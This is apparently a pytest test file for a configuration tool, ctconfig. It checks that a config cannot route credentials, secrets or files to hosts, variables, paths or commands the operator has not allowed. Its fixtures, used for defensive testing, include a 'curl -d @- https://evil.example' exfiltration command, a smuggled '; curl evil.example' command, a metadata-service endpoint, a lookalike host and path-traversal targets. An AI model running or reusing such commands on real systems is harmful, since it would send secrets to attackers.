"""Issue 20, rows 1, 2 and 11: a config alone cannot choose where credentials, secrets or files go.

Each refusal is asserted as its exact line; where a config was refused, the host it named
heard nothing. The operator's allow-lists (CTCONFIG_ALLOWED_*) are set empty here: that is
a pipeline that allows nothing beyond CleverTap's hosts, `CT_*` variables and the tree.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import RunCtconfig
from tests.untrusted.recorder import recording_server

NOTHING_ALLOWED = {
    "CTCONFIG_ALLOWED_ENDPOINTS": "",
    "CTCONFIG_ALLOWED_ENV": "",
    "CTCONFIG_ALLOWED_PATHS": "",
    "CTCONFIG_ALLOWED_COMMANDS": "",
}
FAKE_DSN = "postgresql://ctconfig:pg-secret-7f3a@db.internal/ctconfig"
ENDPOINT_REFUSAL = (
    "is not one of CleverTap's region hosts, and the operator has not allowed it: a config never "
    "chooses where credentials go (set CTCONFIG_ALLOWED_ENDPOINTS in the pipeline's environment to "
    "allow an origin)"
)


def write(tmp_path: Path, body: str) -> None:
    (tmp_path / "ctconfig.yaml").write_text("version: 1\n" + body, encoding="utf-8")


def account(passcode_env: str = "CT_PROD_PASSCODE") -> str:
    return (
        "accounts:\n  prod:\n    id: W9R-486-4W5Z\n"
        f"    credentials: {{passcode_env: {passcode_env}}}\n"
        "    account_passcodes:\n      export: {expires_in: 90d}\n"
    )


def test_row01_a_base_url_and_any_variable_are_refused_and_the_host_hears_nothing(
    tmp_path: Path, run_ctconfig: RunCtconfig
) -> None:
    with recording_server() as host:
        write(
            tmp_path,
            f"provider: {{kind: clevertap, base_url: '{host.url}'}}\n" + account("CTCONFIG_STATE_DSN"),
        )
        env = {**NOTHING_ALLOWED, "CTCONFIG_STATE_DSN": FAKE_DSN, "CT_PROD_PASSCODE": "AMA-AUE-YWUL"}
        for command in (("validate",), ("plan",)):
            result = run_ctconfig(*command, env=env)
            assert result.returncode == 1
            assert result.stderr.splitlines() == [
                f"ctconfig.yaml:2:39: provider.base_url: {host.url} {ENDPOINT_REFUSAL}",
                "ctconfig.yaml:6:33: passcode_env: the config may not read the environment variable "
                "CTCONFIG_STATE_DSN: a config reads only variables named CT_… unless the operator allows "
                "more (CTCONFIG_ALLOWED_ENV)",
            ]
            assert FAKE_DSN not in result.stdout + result.stderr
        assert host.requests == []


def test_row01_an_allowed_origin_is_used_and_only_it(tmp_path: Path, run_ctconfig: RunCtconfig) -> None:
    with recording_server() as host:
        write(
            tmp_path, f"provider: {{kind: clevertap, base_url: '{host.url}', retry_budget: 1}}\n" + account()
        )
        env = {**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_ENDPOINTS": host.url, "CT_PROD_PASSCODE": "AMA-AUE-YWUL"}
        assert run_ctconfig("validate", env=env).returncode == 0
        run_ctconfig("plan", env=env)  # the recorder refuses the passcode: the plan fails, but asked
        assert host.requests and all(
            h.get("Host") == host.url.removeprefix("http://") for _, _, h in host.requests
        )
        other = host.url.rsplit(":", 1)[0] + ":1"  # another port of the same host is another origin
        refused = run_ctconfig("validate", env={**env, "CTCONFIG_ALLOWED_ENDPOINTS": other})
        assert refused.returncode == 1 and ENDPOINT_REFUSAL in refused.stderr


@pytest.mark.parametrize(
    ("section", "line"),
    [
        (
            "state: {backend: http, address: 'https://evil.example/state'}\n",
            "ctconfig.yaml:2:33: state.address: https://evil.example " + ENDPOINT_REFUSAL,
        ),
        (
            "state: {backend: s3, bucket: ctstate, endpoint_url: 'https://evil.example'}\n",
            "ctconfig.yaml:2:53: state.endpoint_url: https://evil.example " + ENDPOINT_REFUSAL,
        ),
        (
            "secrets: {sink: aws-ssm, endpoint_url: 'http://169.254.169.254'}\n",
            "ctconfig.yaml:2:40: secrets.endpoint_url: http://169.254.169.254 " + ENDPOINT_REFUSAL,
        ),
        (
            "provider: {kind: dashboard, base_url: 'https://api.clevertap.com.evil.example'}\n",
            "ctconfig.yaml:2:39: provider.base_url: https://api.clevertap.com.evil.example "
            + ENDPOINT_REFUSAL,
        ),
        (
            "provider: {kind: clevertap, base_url: 'http://in1.api.clevertap.com'}\n",
            "ctconfig.yaml:2:39: provider.base_url: http://in1.api.clevertap.com " + ENDPOINT_REFUSAL,
        ),
    ],
)
def test_row01_every_endpoint_that_carries_a_credential_is_the_operators_choice(
    tmp_path: Path, run_ctconfig: RunCtconfig, section: str, line: str
) -> None:
    write(tmp_path, section + account())
    result = run_ctconfig("validate", env=NOTHING_ALLOWED)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [line]


def test_row01_clevertaps_region_hosts_need_no_allow_list(tmp_path: Path, run_ctconfig: RunCtconfig) -> None:
    write(tmp_path, "provider: {kind: clevertap, base_url: 'https://in1.api.clevertap.com/'}\n" + account())
    assert run_ctconfig("validate", env=NOTHING_ALLOWED).returncode == 0


def test_row01_a_credential_is_named_like_one_and_never_interpolated(
    tmp_path: Path, run_ctconfig: RunCtconfig
) -> None:
    env = {**NOTHING_ALLOWED, "CT_PROD_PASSCODE": "AMA-AUE-YWUL"}
    write(tmp_path, account("CT_PROD"))
    result = run_ctconfig("validate", env=env)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "ctconfig.yaml:5:33: passcode_env: CT_PROD does not look like a credential's variable: name it "
        "ending in _PASSCODE, _PASSWORD, _TOKEN, _SECRET, _DSN, _KEY (such variables are never "
        "interpolated, so a plan can never print one)",
    ]
    write(
        tmp_path,
        "accounts:\n  prod:\n    id: W9R-486-4W5Z\n    credentials: {passcode_env: CT_PROD_PASSCODE}\n"
        "    account_passcodes:\n      export:\n        expires_in: 90d\n"
        "        previously: ['${CT_PROD_PASSCODE}']\n"
        "  other:\n    id: '${CT_OTHER_ID:-8R5-4K6-5Z7Z}'\n",
    )
    result = run_ctconfig("validate", env=env)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "ctconfig.yaml:9:22: '${CT_PROD_PASSCODE}': a credential's variable is never interpolated "
        "(values can be shown in a plan); name it in a *_env key instead",
    ]
    assert "AMA-AUE-YWUL" not in result.stdout + result.stderr


def test_row01_the_operator_may_allow_more_variables(tmp_path: Path, run_ctconfig: RunCtconfig) -> None:
    write(tmp_path, "state: {backend: postgres, dsn_env: PG_DSN}\n" + account())
    refused = run_ctconfig("validate", env=NOTHING_ALLOWED)
    assert refused.stderr.splitlines() == [
        "ctconfig.yaml:2:37: dsn_env: the config may not read the environment variable PG_DSN: a config "
        "reads only variables named CT_… unless the operator allows more (CTCONFIG_ALLOWED_ENV)"
    ]
    assert run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_ENV": "PG_*"}).returncode == 0


def test_an_unreadable_allow_list_is_one_line(tmp_path: Path, run_ctconfig: RunCtconfig) -> None:
    write(tmp_path, account())
    result = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_ENDPOINTS": "evil.example"})
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "Error: CTCONFIG_ALLOWED_ENDPOINTS: 'evil.example' is not an origin; expected scheme://host[:port] "
        "such as https://state.example.com or http://127.0.0.1:* (any port)"
    ]


# ---- row 2: paths stay inside the tree ----------------------------------------------------------


@pytest.mark.parametrize(
    ("section", "shown"),
    [
        ("secrets: {sink: file, path: /root/.git-credentials-dir}\n", "'/root/.git-credentials-dir'"),
        ("secrets: {sink: env-file, path: ../outside.env}\n", "'../outside.env'"),
        ("state: {path: sub/../../state.json}\n", "'sub/../../state.json'"),
        ("provider: {kind: sandbox, path: /tmp/ctconfig-hostile.db}\n", "'/tmp/ctconfig-hostile.db'"),
    ],
)
def test_row02_a_path_out_of_the_tree_is_refused(
    tmp_path: Path, run_ctconfig: RunCtconfig, section: str, shown: str
) -> None:
    write(tmp_path, section + account())
    result = run_ctconfig("plan", env=NOTHING_ALLOWED)
    assert result.returncode == 1
    [line] = result.stderr.splitlines()
    key = {"secrets": "secrets.path", "state:": "state.path", "provider": "provider.path"}
    expected_key = next(v for k, v in key.items() if section.startswith(k))
    assert line.endswith(
        f"{expected_key}: {shown} resolves outside the working tree ({os.path.realpath(tmp_path)}): a config "
        "keeps its files inside it (no absolute path, '..' or link out) unless the operator allows a root "
        "(CTCONFIG_ALLOWED_PATHS)"
    )
    assert not Path("/tmp/ctconfig-hostile.db").exists()


def test_row02_a_link_out_of_the_tree_is_refused(tmp_path: Path, run_ctconfig: RunCtconfig) -> None:
    outside = tmp_path / "outside"
    (outside / "demo").mkdir(parents=True)
    (outside / "demo" / "export").write_text("AMA-AUE-YWUL\n")
    tree = tmp_path / "tree"
    (tree / ".ctconfig").mkdir(parents=True)
    (tree / ".ctconfig" / "secrets").symlink_to(outside)
    write(tree, account())
    result = run_ctconfig("plan", cwd=tree, env=NOTHING_ALLOWED)
    assert result.returncode == 1
    assert "secrets.path: '.ctconfig/secrets' resolves outside the working tree" in result.stderr
    allowed = run_ctconfig(
        "validate", cwd=tree, env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_PATHS": str(outside)}
    )
    assert allowed.returncode == 0, allowed.stderr


def test_row02_the_command_sink_runs_only_what_the_operator_allows(
    tmp_path: Path, run_ctconfig: RunCtconfig
) -> None:
    write(
        tmp_path, "secrets: {sink: command, command: [curl, -d, '@-', 'https://evil.example']}\n" + account()
    )
    result = run_ctconfig("validate", env=NOTHING_ALLOWED)
    assert result.stderr.splitlines() == [
        "ctconfig.yaml:2:35: command: the command sink would run 'curl -d @- https://evil.example', "
        "which the operator has not allowed: a config never chooses where secrets go "
        "(list the whole command in CTCONFIG_ALLOWED_COMMANDS)"
    ]
    allowed = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault"})
    assert allowed.returncode == 1  # curl is still not vault
    write(tmp_path, "secrets: {sink: command, command: 'vault kv put x -; curl evil.example'}\n" + account())
    shell = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault"})
    assert shell.returncode == 1  # a shell line is allowed only as a whole


def test_row02_an_allowed_program_never_takes_the_configs_own_arguments(
    tmp_path: Path, run_ctconfig: RunCtconfig
) -> None:
    """Allowing `vault` must not let a config add `-address=` (its own server) or `-output` files."""
    write(
        tmp_path,
        "secrets: {sink: command, command: [vault, kv, put, '-address=https://evil.example', x, '-']}\n"
        + account(),
    )
    redirected = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault"})
    assert redirected.returncode == 1
    assert "-address=https://evil.example" in redirected.stderr and "whole command" in redirected.stderr
    write(tmp_path, "secrets: {sink: command, command: [vault-put]}\n" + account())
    alone = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault-put"})
    assert alone.returncode == 0, alone.stderr
    write(tmp_path, "secrets: {sink: command, command: [sh, ./store secret.sh]}\n" + account())
    operators = {**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault-put, sh './store secret.sh'"}
    chosen = run_ctconfig("validate", env=operators)
    assert chosen.returncode == 0, chosen.stderr  # the operator's words, quoted as the shell would
    more = "secrets: {sink: command, command: [sh, ./store secret.sh, --to, elsewhere]}\n"
    write(tmp_path, more + account())
    assert run_ctconfig("validate", env=operators).returncode == 1
